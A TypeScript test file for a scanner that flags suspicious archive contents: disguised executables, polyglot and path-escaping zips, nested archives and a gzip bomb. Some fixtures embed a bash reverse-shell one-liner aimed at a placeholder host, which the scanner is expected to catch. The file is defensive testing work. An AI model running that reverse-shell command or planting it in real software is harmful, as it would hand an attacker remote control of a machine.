import { expect, test } from "bun:test";
import { gzipSync } from "node:zlib";
import { createArchiveHygieneScanner } from "./archive-hygiene.ts";
import { createBehaviourScanner } from "./behaviour.ts";
import { withNestedFiles } from "./nested-files.ts";
import { briefly, scanWith, targetOf, zipOf } from "./target.fixture.ts";

const scanner = createArchiveHygieneScanner();
const { signal } = new AbortController();
const found = async (files: Record<string, string | Uint8Array>) =>
  briefly(await scanWith(scanner, await withNestedFiles(targetOf(files), signal)));
const text = (content: string) => new TextEncoder().encode(content);
const ELF = Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01"), Buffer.alloc(600)]);
const plainZip = zipOf([{ name: "a.txt", bytes: text("hello") }]);

function tarOf(name: string, content: string): Uint8Array {
  const header = Buffer.alloc(512);
  header.write(name, 0);
  header.write(content.length.toString(8).padStart(11, "0"), 124);
  header.write("0", 156);
  header.write("ustar", 257);
  const body = Buffer.alloc(Math.ceil(content.length / 512) * 512);
  body.write(content);
  return Buffer.concat([header, body, Buffer.alloc(1024)]);
}

test.each<[string, Record<string, string | Uint8Array>, string[]]>([
  ["documents", { "SKILL.md": "# Hi", "a.json": "{}" }, []],
  ["a zip", { "a.zip": plainZip }, []],
  ["a program", { "bin/tool": ELF }, ["executable medium bin/tool"]],
  ["a program under a picture's name", { "logo.png": ELF }, ["disguised-executable critical logo.png"]],
  [
    "a Windows program",
    {
      "x.dat": Buffer.concat([Buffer.from("MZ"), Buffer.alloc(58), Buffer.from([64, 0, 0, 0]), Buffer.from("PE\0\0")]),
    },
    ["executable medium x.dat"],
  ],
  [
    "an encrypted zip",
    { "a.zip": zipOf([{ name: "a", bytes: text("x"), encrypted: true }]) },
    ["encrypted high a.zip"],
  ],
  ["a zip under a document's name", { "a.md": plainZip }, ["disguised-archive high a.md"]],
  ["a 7z", { "a.7z": Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4, 1, 1]) }, ["unreadable-archive high a.7z"]],
  [
    "a picture that is a zip",
    { "a.png": Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), Buffer.alloc(60), plainZip]) },
    ["polyglot high a.png"],
  ],
  ["a zip that climbs out", { "a.zip": zipOf([{ name: "../../x", bytes: text("x") }]) }, ["escaping-path high a.zip"]],
  [
    "a zip with a program in it",
    { "a.zip": zipOf([{ name: "run.exe", bytes: ELF }]) },
    ["program-in-archive medium a.zip", "executable medium a.zip!/run.exe"],
  ],
  ["a zip cut off", { "a.zip": Buffer.from(plainZip).subarray(0, 40) }, ["damaged-zip high a.zip"]],
])("%s", async (_name, files, expected) => {
  expect(await found(files)).toEqual(expected);
});

test.each<[string, Record<string, Uint8Array>, string]>([
  [
    "zip",
    { "a.zip": zipOf([{ name: "s/run.sh", bytes: text("bash -i >& /dev/tcp/h.example/1 0>&1") }]) },
    "a.zip!/s/run.sh",
  ],
  ["tar.gz", { "a.tgz": gzipSync(tarOf("run.sh", "bash -i >& /dev/tcp/h.example/1 0>&1")) }, "a.tgz!/run.sh"],
  [
    "zip in zip",
    {
      "a.zip": zipOf([
        { name: "b.zip", bytes: zipOf([{ name: "c", bytes: text("bash -i >& /dev/tcp/h.example/1 0>&1") }]) },
      ]),
    },
    "a.zip!/b.zip!/c",
  ],
])("what hides in a %s is scanned", async (_name, files, path) => {
  const target = await withNestedFiles(targetOf(files), signal);
  expect(briefly(await scanWith(createBehaviourScanner(), target))).toContain(`reverse-shell critical ${path}:1`);
});

test("archives deeper than is scanned are reported", async () => {
  let zip = plainZip;
  for (let i = 0; i < 3; i++) zip = zipOf([{ name: "in.zip", bytes: zip }]);
  expect(await found({ "a.zip": zip })).toContain("deeply-nested high a.zip!/in.zip!/in.zip");
});

test("a bomb is cut off at the bound", async () => {
  const bomb = gzipSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 });
  const target = await withNestedFiles(targetOf({ "a.gz": bomb }), signal);
  expect(target.files.reduce((sum, file) => sum + file.size, 0)).toBeLessThan(50 * 1024 * 1024);
});
